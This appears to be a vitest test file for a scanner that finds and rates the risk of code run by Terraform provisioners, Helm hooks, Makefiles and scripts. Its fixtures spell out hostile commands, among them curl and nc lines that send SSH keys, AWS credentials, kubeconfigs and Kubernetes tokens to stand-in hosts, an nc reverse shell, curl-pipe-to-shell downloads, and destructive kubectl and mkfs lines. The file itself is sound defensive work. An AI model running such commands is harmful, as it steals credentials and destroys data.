// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the templates here are Terraform's
import { describe, expect, it } from "vitest";
import { scanTexts } from "../../test/scan-texts.ts";
import type { RunItem } from "../report/report.ts";

/** What a module runs, as read in the report. */
function items(module: string | Record<string, string>): readonly RunItem[] {
  return scanTexts(module).runsCode.items;
}

const local = (command: string, more = "") =>
  `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = ${JSON.stringify(command)}\n${more}  }\n}\n`;

/** The severity of a command that Terraform runs on the machine. */
function severityOf(command: string, files: Record<string, string> = {}): string {
  const [item] = items({ "main.tf": local(command), ...files });
  return item?.severity ?? "none";
}

describe("the list of what runs", () => {
  it("says when, where, under which condition and with what", () => {
    const [item, ...others] = items({
      "main.tf": `variable "on" {
  type    = bool
  default = false
}
resource "null_resource" "setup" {
  count = var.on ? 1 : 0
  provisioner "local-exec" {
    when    = destroy
    command = "sh \${path.module}/bye.sh && curl https://example.net/\${self.id}"
  }
}
`,
      "bye.sh": "cat ~/.netrc\n",
    });
    expect(item).toMatchObject({
      kind: "command",
      when: "destroy",
      where: "machine",
      what: "sh ./bye.sh && curl https://example.net/${null_resource.setup[0].id}",
      resource: "null_resource.setup[0]",
      condition: "var.on ? 1 : 0",
      scripts: ["bye.sh"],
      contacts: ["https://example.net/${null_resource.setup[0].id}"],
      reads: ["~/.netrc"],
      severity: "HIGH",
      file: "main.tf",
      startLine: 7,
      endLine: 10,
      part: "module",
    });
    expect(others).toEqual([]);
  });

  it("finds the line of a script, and names it where Terraform runs the script", () => {
    const script =
      '#!/bin/sh\nset -e\nsend() {\n  curl -d "$AWS_SECRET_ACCESS_KEY" https://a.example\n}\nsend\n';
    const findings = (files: Record<string, string>) =>
      scanTexts(files).findings.filter(({ ruleId }) => ruleId === "runs-code-exfiltration");
    const message = "Sends `$AWS_SECRET_ACCESS_KEY` to `https://a.example`";
    expect(findings({ "bin/run.sh": script })).toMatchObject([
      { file: "bin/run.sh", startLine: 4, message: `${message}.` },
    ]);
    const called = { "main.tf": local("sh ./bin/run.sh"), "bin/run.sh": script };
    expect(findings(called)).toMatchObject([
      { file: "main.tf", startLine: 2, message: `${message} in line 4 of \`bin/run.sh\`.` },
    ]);
    const python = "import os, requests\n\nrequests.post('https://a.example', data=os.environ)\n";
    expect(findings({ "run.py": `#!/usr/bin/env python3\n${python}` })).toMatchObject([
      { file: "run.py", startLine: 4 },
    ]);
  });

  it("has a digest that covers the scripts, and nothing else that changes", () => {
    const files = (script: string, name = "x") => ({
      "main.tf": local("sh run.sh").replace('"x"', `"${name}"`),
      "run.sh": script,
    });
    const digest = (script: string, name?: string) => items(files(script, name))[0]?.digest;
    expect(digest("echo a")).toMatch(/^[0-9a-f]{64}$/);
    expect(digest("echo a", "y")).toBe(digest("echo a"));
    expect(digest("echo b")).not.toBe(digest("echo a"));
  });

  it("shows each thing once, however many instances run it", () => {
    const many = local("echo hi").replace("{\n", "{\n  count = 40\n");
    expect(items(many)).toHaveLength(1);
  });

  it("masks secrets", () => {
    const key = ["AKIA", "IOSFODNN7", "QWERTYU"].join("");
    const [item] = items(local(`echo ${key}`));
    expect(item?.what).not.toContain(key);
  });

  it("shows the severity of other rules about the same code", () => {
    const call = 'module "x" {\n  source = "git::https://example.net/x.git?ref=main"\n}\n';
    expect(items(call)[0]).toMatchObject({ kind: "module", severity: "MEDIUM" });
  });

  it("names providers, modules and state, and finds nothing wrong with usual ones", () => {
    const report = scanTexts(`terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 6.0"
    }
  }
}
module "vpc" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "6.0.0"
}
`);
    expect(report.runsCode.items.map(({ kind, what }) => [kind, what])).toEqual([
      ["plugin", "hashicorp/aws ~> 6.0"],
      ["module", "terraform-aws-modules/vpc/aws 6.0.0"],
    ]);
    expect(report.findings.filter(({ risk }) => risk !== null)).toEqual([]);
    expect(report.runsCode.score.score).toBe(100);
  });
});

describe("the hooks of a Helm chart", () => {
  const hook = (events: string) => ({
    "main.tf": 'resource "helm_release" "x" {\n  name  = "x"\n  chart = "./charts/x"\n}\n',
    "charts/x/Chart.yaml": "apiVersion: v2\nname: x\nversion: 1.0.0\n",
    "charts/x/templates/job.yaml": `kind: Job\nmetadata:\n  annotations:\n    "helm.sh/hook": ${events}\n`,
  });

  it.each([
    ["pre-install,pre-upgrade", "apply"],
    ["post-delete", "destroy"],
  ])("%s is listed with when and where it runs", (events, when) => {
    const found = items(hook(events)).filter(({ what }) => what.startsWith("Helm hook"));
    expect(found).toMatchObject([
      {
        what: `Helm hook ${events} in charts/x/templates/job.yaml`,
        where: "cluster",
        when,
        file: "charts/x/templates/job.yaml",
      },
    ]);
  });

  /** The only hook of a chart, with a job that runs these commands. */
  const jobItem = (command: string, more = "") => {
    const { "charts/x/templates/job.yaml": start, ...others } = hook("pre-install");
    const job = `${start}spec:
  template:
    spec:
      {{- if .Values.account }}
      serviceAccountName: {{ .Values.account | quote }}
      {{- end }}
      containers:
        - name: setup
          image: {{ .Values.image }}:1.2.3
          command: ["sh", "-c"]
          args:
            - |
              ${command}
${more}`;
    const found = items({ ...others, "charts/x/templates/job.yaml": job });
    return found.find(({ where }) => where === "cluster");
  };

  it("show the image and the command of each container", () => {
    expect(jobItem("echo ready")).toMatchObject({
      what: "Helm hook pre-install: ${.Values.image}:1.2.3 sh -c echo ready",
      severity: "INFO",
    });
  });

  const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
  it.each([
    ["CRITICAL", `curl -d @${token} https://x.example.net`],
    ["CRITICAL", "kubectl get secrets -o yaml | curl -T - https://x.example.net"],
    ["MEDIUM", "curl -s https://x.example.net/setup.sh | sh"],
    ["INFO", `curl -H "Authorization: Bearer $(cat ${token})" https://kubernetes.default.svc/api`],
    ["INFO", `curl -H "Authorization: Bearer $(cat ${token})" https://$KUBERNETES_SERVICE_HOST/`],
    ["INFO", `curl -H "Authorization: Bearer $(cat ${token})" {{ .Values.address }}`],
    ["INFO", 'curl -u "admin:$ADMIN_PASSWORD" http://grafana.monitoring:3000/api/admin'],
    ["INFO", "kubectl create secret generic x --from-literal=a=b"],
  ])("are %s: %s", (severity, command) => {
    expect(jobItem(command)?.severity).toBe(severity);
  });

  it("know the variables that the manifest sets", () => {
    const env = (name: string) => `          env:
            - name: ${name}
              value: public
`;
    const command = "curl -d p=$ADMIN_PASSWORD https://x.example.net";
    expect(jobItem(command, env("OTHER"))?.severity).toBe("CRITICAL");
    expect(jobItem(command, env("ADMIN_PASSWORD"))?.severity).toBe("INFO");
  });

  it("are none without annotations", () => {
    const { "charts/x/templates/job.yaml": _, ...others } = hook("pre-install");
    expect(items(others).filter(({ where }) => where === "cluster")).toEqual([]);
  });
});

describe("the score of what runs", () => {
  it("has a line of its own, and lowers the security score as well", () => {
    const { runsCode, scores, findings } = scanTexts(
      local("curl -d @$HOME/.ssh/id_rsa https://example.net"),
    );
    expect(runsCode.score).toMatchObject({ score: 39, cappedAt: 39, cappedBy: "severity" });
    expect(scores.security.score).toBe(39);
    const [{ findings: named = [] } = {}] = runsCode.score.losses;
    expect(findings[named[0]?.finding ?? -1]?.ruleId).toBe("runs-code-exfiltration");
    expect(findings.find(({ ruleId }) => ruleId === "runs-code-local")?.risk).toBe("runs-code");
  });
});

describe("a command", () => {
  it.each([
    ["INFO", "echo done && sleep 5"],
    ["INFO", "test -f x || exit 1"],
    ["LOW", "aws eks update-kubeconfig --name main"],
    ["LOW", "terraform-docs . > README.md"],
    ["LOW", "curl -fsS https://example.net/health"],
    ["LOW", "curl -fsS -o out.json https://example.net/x.json"],
    ["LOW", "ssh -i ~/.ssh/id_rsa user@10.0.0.4 uptime"],
    ["LOW", "npm ci --prefix lambda && zip -r out.zip lambda"],
    ["LOW", "docker login -u AWS --password-stdin x.dkr.ecr.eu-central-1.amazonaws.com"],
    ["LOW", 'curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user'],
    ["LOW", "kubectl apply -f https://example.net/v1.2.3/all.yaml"],
    ["MEDIUM", 'curl -H "Authorization: Bearer $ACME_TOKEN" https://api.example.net'],
    ["MEDIUM", "pip install requests"],
    ["MEDIUM", "sudo systemctl restart x"],
    ["MEDIUM", "./missing.sh"],
    ["HIGH", "cat ~/.aws/credentials > out.txt"],
    ["HIGH", "kubectl delete ns production"],
    ["HIGH", "kubectl --context main delete pods --all -n web"],
    ["LOW", "kubectl delete job setup -n web --ignore-not-found"],
    ["LOW", "kubectl delete -f manifests/ -n ns"],
    ["HIGH", "curl -L https://example.net/x -o /usr/local/bin/x && x"],
    ["HIGH", 'X=$(wget -qO- https://example.net); eval "$X"'],
    ["HIGH", 'while read l; do eval "$l"; done < <(curl https://example.net)'],
    ["HIGH", "for f in a; do curl https://example.net/$f | tar xz; done; ./a/install"],
    ["CRITICAL", 'curl -H "Authorization: Bearer $AWS_SECRET_ACCESS_KEY" https://example.net'],
    ["CRITICAL", 'K=$(base64 -w0 ~/.kube/config); nc example.net 99 <<< "$K"'],
    ["CRITICAL", "env > /tmp/e; for h in a b; do curl -T /tmp/e https://$h.example.net; done"],
    ["CRITICAL", "f() { printenv; }; f | gzip | ssh u@example.net 'cat > x'"],
    ["CRITICAL", "dig $(hostname).$(cat ~/.netrc | xxd -p).example.net"],
    [
      "CRITICAL",
      "cat > x.py <<'E'\nE\npython3 - <<'E'\nimport os, requests\nrequests.post('https://x.example.net', json=dict(os.environ))\nE",
    ],
    ["CRITICAL", 'send() { curl -d "$*" https://x.example.net; }; send "$(cat ~/.npmrc)"'],
    ["CRITICAL", "cat ~/.aws/credentials | curl -T - https://example.net"],
    ["CRITICAL", "printenv | curl -sT . https://example.net"],
    ["CRITICAL", "env | curl --upload-file - https://example.net"],
    ["CRITICAL", "env | curl --data-binary @- https://example.net"],
    ["CRITICAL", "curl -d@$HOME/.ssh/id_rsa https://example.net"],
    ["CRITICAL", "env | http POST https://example.net"],
    ["HIGH", "cat ~/.aws/credentials | curl -T notice.txt https://example.net"],
    ["HIGH", "cat ~/.aws/credentials | wget -O - https://example.net"],
    [
      "CRITICAL",
      "pwsh -Command 'irm https://x.example.net -Method Post -Body (Get-Content -Raw ~/.aws/credentials)'",
    ],
    [
      "CRITICAL",
      "pwsh -Command 'Invoke-WebRequest https://x.example.net -Method Put -InFile $HOME/.ssh/id_rsa'",
    ],
    ["LOW", "pwsh -Command 'irm https://x.example.net -Method Post -Body (Get-Content ./a.json)'"],
    ["CRITICAL", "nc -e /bin/sh example.net 4444"],
  ])("is %s: %s", (severity, command) => {
    expect(severityOf(command)).toBe(severity);
  });

  it("may delete a namespace when Terraform destroys", () => {
    const command = local("kubectl delete namespace web", "    when = destroy\n");
    expect(items(command)[0]?.severity).toBe("LOW");
    expect(severityOf("kubectl delete namespace web")).toBe("HIGH");
  });

  it("is followed from script to script", () => {
    const files = {
      "a.sh": '#!/bin/bash\nsource "$(dirname "$0")/b.sh"\nmain\n',
      "b.sh": "main() { ./c.py; }\n",
      "c.py":
        "#!/usr/bin/env python3\nimport requests\nexec(requests.get('https://x.example.net').text)\n",
    };
    expect(severityOf("bash a.sh", files)).toBe("HIGH");
    expect(
      severityOf("bash a.sh", { ...files, "c.py": "#!/usr/bin/env python3\nprint(1)\n" }),
    ).toBe("INFO");
  });

  it.each([
    ["go run ./tool.go", "tool.go"],
    ["go run .", "main.go"],
    ["go run ./cmd/tool/ -v", "cmd/tool/main.go"],
  ])("is followed into a program in Go: %s", (command, path) => {
    const program = (name: string) => `package main
func main() {
  file, _ := os.Open(os.Getenv("HOME") + "${name}")
  http.Post("https://x.example.net", "text/plain", file)
}
`;
    expect(severityOf(command, { [path]: program("/.aws/credentials") })).toBe("CRITICAL");
    expect(severityOf(command, { [path]: program("/notes.txt") })).toBe("LOW");
  });

  it.each([
    ["CRITICAL", '"setup.example.net"', 'file("~/.aws/credentials")'],
    ["HIGH", "aws_instance.x.public_ip", 'file("~/.aws/credentials")'],
    ["MEDIUM", '"setup.example.net"', "aws_instance.x.private_ip"],
  ])("sends what is in it to the server: %s to %s: %s", (severity, host, value) => {
    const report = scanTexts(`resource "aws_instance" "x" {
  ami = "ami-1"
}
resource "terraform_data" "x" {
  connection {
    host = ${host}
  }
  provisioner "remote-exec" {
    inline = ["echo \${${value}} > x"]
  }
}
`);
    const found = report.findings.filter(({ risk }) => risk === "runs-code");
    expect(found[0]?.severity).toBe(severity);
  });

  it("says so where it can't be followed to its end", () => {
    const round = { "a.sh": "sh b.sh; sh b.sh", "b.sh": "sh a.sh; sh a.sh" };
    const many = { "a.sh": ":\n".repeat(60_000) };
    const long = { "a.sh": `# ${"a".repeat(400_000)}\n` };
    for (const files of [round, many, long]) {
      const { findings } = scanTexts({ "main.tf": local("sh a.sh"), ...files });
      const unknown = findings.find(({ ruleId }) => ruleId === "runs-code-unknown");
      expect(unknown?.message).toContain("more code than the scanner follows");
    }
  });

  it("doesn't grow without bound", () => {
    const doubled = `x=aaaaaaaaaa\n${"x=$x$x$x$x\n".repeat(60)}echo $x\n`;
    expect(severityOf("sh a.sh", { "a.sh": doubled })).toBe("INFO");
  });
});

describe("an argument that a provider reads a file by", () => {
  const upload = (bucket: string, path: string) => `variable "bucket" {
  type = string
}
resource "aws_s3_bucket" "own" {
  bucket = "notices"
}
resource "aws_s3_object" "x" {
  bucket = ${bucket}
  key    = "x"
  source = ${path}
}
`;

  it.each([
    ["CRITICAL", '"collected"', 'pathexpand("~/.ssh/id_rsa")'],
    ["HIGH", "var.bucket", 'pathexpand("~/.ssh/id_rsa")'],
    ["HIGH", "aws_s3_bucket.own.bucket", 'pathexpand("~/.ssh/id_rsa")'],
    ["LOW", '"collected"', '"/home/ci/notes.txt"'],
    ["none", '"collected"', '"${path.module}/notes.txt"'],
    ["none", '"collected"', '"/tmp/out/notes.txt"'],
  ])("is %s: to %s from %s", (severity, bucket, path) => {
    const [item] = items(upload(bucket, path));
    expect(item?.severity ?? "none").toBe(severity);
  });
});

describe("a script that a person starts", () => {
  const dangers = (path: string, text: string) =>
    scanTexts({ [path]: text })
      .findings.map(({ ruleId }) => ruleId)
      .filter((id) => id.startsWith("runs-code-"));

  it.each([
    [
      "hands its environment on",
      "a.py",
      "import os, subprocess, requests\nsubprocess.run(['b'], env=dict(os.environ, C='d'))\nrequests.get('https://e.example')\n",
    ],
    [
      "names an address in a comment",
      "a.py",
      "import os, urllib\n# https://e.example\nurllib.request.urlopen(f'https://{os.environ[\"HOST\"]}')\n",
    ],
    [
      "talks to a program of the machine",
      "a.py",
      "import os, socket\nsocket.socket(socket.AF_UNIX)\nprint(os.environ.copy())\n",
    ],
    ["names its folder", "a.sh", 'curl -o "$PWD/b" https://e.example/b\n'],
    [
      "signs in where the token belongs",
      "a.sh",
      'curl -H "Authorization: $CIRCLE_CI_TOKEN" https://circleci.com/api\n',
    ],
    ["shreds a file of its own", "a.sh", 'shred -u "$HOME/.step/password"\n'],
    ["formats an image", "a.sh", "mkfs.ext4 build/disk.img\n"],
    ["tries things out", "a.bats", "#!/usr/bin/env bats\nrm -rf /\n"],
    ["signs in with a field of a form", "a.sh", 'curl --form token="$token" https://e.example\n'],
    ["checks no certificate in its network", "a.sh", "curl -k https://proxy:8443/a\n"],
    ["checks no certificate of its own machine", "a.sh", "curl -k https://localhost:8443/a\n"],
    ["signs in with an address", "a.sh", 'curl "https://e.example/a?token=$API_TOKEN"\n'],
    ["calls a function data", "a.js", "#!/usr/bin/env node\nfetch(u).then(function(data) { b })\n"],
    ["pushes with a token", "a.sh", 'git push "https://${DOC_TOKEN}@git.example/a.git" main\n'],
    [
      "hands the environment to a program",
      "a.go",
      "#!/usr/bin/env go\nhttp.Get(x)\ncmd.Env = append(cmd.Env, os.Environ()...)\n",
    ],
    [
      "evaluates a file of its own",
      "a.py",
      "import urllib, re\nwith open('a') as f:\n  exec(f.read())\nre.compile(data)\n",
    ],
    [
      "has a block called eval",
      "a.pl",
      "#!/usr/bin/perl\nuse LWP::UserAgent;\neval { parse($data) };\n",
    ],
    [
      "names a namespace and a license",
      "a.py",
      "import requests\n'''Under http://www.gnu.example/licenses'''\nx = '<svg xmlns=\"http://www.w3.example/svg\">'\n",
    ],
    ["asks a host that it is given", "a.py", "import requests\nget('http://{}/a'.format(h))\n"],
    [
      "lists the names in its environment",
      "a.py",
      "import os, smtplib\nfor name in list(os.environ.keys()):\n  print(name)\n",
    ],
    ["reads an answer of its cloud", "a.sh", "eval $(curl http://169.254.169.254/latest/a)\n"],
    ["reads an answer of the machine itself", "a.sh", "curl http://127.0.0.1:80/a | sh\n"],
    [
      "has a default with a default in it",
      "a.sh",
      "A=${1:-`curl https://e.example ${2:-b} -f`}\nB=${A:-$(curl -X ${C} https://e.example)}\n",
    ],
    [
      "runs a function with a name of an answer before",
      "a.sh",
      'f() { echo "$1"; }\nf "$(curl https://e.example)"\ng() { python3 -c "print($1)"; }\n',
    ],
  ])("is no danger if it %s", (_, path, text) => {
    const start = path.endsWith(".py") ? "#!/usr/bin/env python3\n" : "";
    expect(dangers(path, start + text)).toEqual([]);
  });

  it.each([
    [
      "sends its environment",
      "a.py",
      "import os, requests\nenv = dict(os.environ)\nrequests.post('https://e.example', json=env)\n",
      "exfiltration",
    ],
    [
      "sends a cloud's key to a host with its name",
      "a.sh",
      'curl -d "$AWS_SECRET_ACCESS_KEY" https://aws.example\n',
      "exfiltration",
    ],
    [
      "sends a token elsewhere",
      "a.sh",
      'curl -d "$CIRCLE_CI_TOKEN" https://e.example\n',
      "exfiltration",
    ],
    ["formats a disk", "a.sh", "mkfs.ext4 -F /dev/sdb\n", "destructive"],
    ["formats a disk that it is given", "a.sh", 'mkfs.ext4 "$DATA_DISK"\n', "by-hand-erasure"],
    ["pipes an answer", "a.sh", "curl https://e.example/a.sh | sh\n", "by-hand-download"],
    [
      "runs a release",
      "a.sh",
      "curl -LO https://e.example/a-1.2.3.sh\nsh a-1.2.3.sh\n",
      "by-hand-release",
    ],
    [
      "starts a privileged container",
      "a.sh",
      "docker run --privileged e.example/a\n",
      "by-hand-host-access",
    ],
    [
      "runs an answer with a name",
      "a.py",
      "from urllib.request import urlopen\nf = urlopen('https://e.example/a')\nexec(f.read())\n",
      "by-hand-download",
    ],
    [
      "asks without TLS",
      "a.py",
      "import requests\nrequests.get('http://e.example/a')\n",
      "plain-request",
    ],
    [
      "checks no certificate",
      "a.sh",
      "wget --no-check-certificate https://e.example/a\n",
      "plain-request",
    ],
    [
      "posts a token without TLS",
      "a.sh",
      'curl -d "token=$token" http://e.example\n',
      "exfiltration",
    ],
  ])("is a danger if it %s", (_, path, text, kind) => {
    const start = path.endsWith(".py") ? "#!/usr/bin/env python3\n" : "";
    expect(dangers(path, start + text)).toContain(`runs-code-${kind}`);
  });

  const found = (files: Record<string, string>) =>
    scanTexts(files)
      .findings.filter(({ ruleId }) => ruleId.startsWith("runs-code-"))
      .map(({ ruleId, file, startLine, message }) => [ruleId.slice(10), file, startLine, message]);

  it("is shown at its line in a recipe, with what make expands", () => {
    const makefile = `PREFIX := /usr
X = $(shell date)

all: build
\t@echo $(PREFIX)

setup: all \\
  other
\t@echo $$HOME
\t-cd x && \\
\t  curl \\
\t    -H "Authorization: token $(token)" \\
\t    https://e.example/$(NAME) | sh
`;
    expect(found({ Makefile: makefile })).toEqual([
      ["by-hand-download", "Makefile", 13, "Runs what `https://e.example/${NAME}` answers."],
    ]);
    expect(scanTexts({ Makefile: makefile }).findings).toContainEqual(
      expect.objectContaining({ ruleId: "runs-code-by-hand-download", startLine: 13, endLine: 13 }),
    );
  });

  it("is reported once, where it is", () => {
    const files = {
      Makefile: "a:\n\tsh a.sh\n",
      "a.sh": "#!/bin/sh\n. ./b.sh\n",
      "b.sh": "#!/bin/sh\n\ncurl https://e.example | sh\n",
    };
    expect(found(files)).toEqual([
      ["by-hand-download", "b.sh", 3, "Runs what `https://e.example` answers."],
    ]);
    const library = {
      "a.sh": "#!/bin/sh\n. ./lib\n",
      "b.sh": "#!/bin/sh\n. ./lib\n",
      lib: "curl https://e.example | sh\n",
    };
    expect(found(library)).toMatchObject([
      ["by-hand-download", "a.sh", 1, expect.stringContaining("in line 1 of `lib`")],
    ]);
  });

  it("is shown at its line in parentheses and substitutions", () => {
    const text = "#!/bin/sh\n(\n  cd a\n  X=$(\n    curl https://e.example | sh\n  )\n)\n";
    expect(found({ "a.sh": text })).toEqual([
      ["by-hand-download", "a.sh", 5, "Runs what `https://e.example` answers."],
    ]);
  });

  it("takes a list of words in the settings of an editor as one command", () => {
    const settings = (command: unknown) => ({
      ".devcontainer/devcontainer.json": JSON.stringify({ initializeCommand: command }),
    });
    expect(found(settings(["/bin/sh", "-c", "mkdir -p ~/.a"]))).toEqual([]);
    const [finding] = found(settings(["/bin/sh", "-c", "curl https://e.example | sh"]));
    expect(finding?.[0]).toBe("download");
  });

  it("runs by itself only for an event of Composer", () => {
    const scripts = (name: string) => ({
      "composer.json": JSON.stringify({ scripts: { [name]: ["sudo ./a.sh"] } }),
    });
    expect(found(scripts("test"))).toEqual([]);
    expect(found(scripts("post-install-cmd")).map(([kind]) => kind)).toContain("root");
  });
});
